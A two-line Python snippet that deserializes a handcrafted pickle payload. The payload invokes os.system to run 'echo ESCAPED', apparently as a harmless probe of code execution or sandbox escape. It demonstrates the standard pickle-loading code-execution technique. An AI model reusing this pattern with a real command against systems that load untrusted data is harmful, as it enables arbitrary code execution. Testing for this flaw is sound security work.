import pickle
pickle.loads(b"cos\nsystem\n(S'echo ESCAPED'\ntR.")
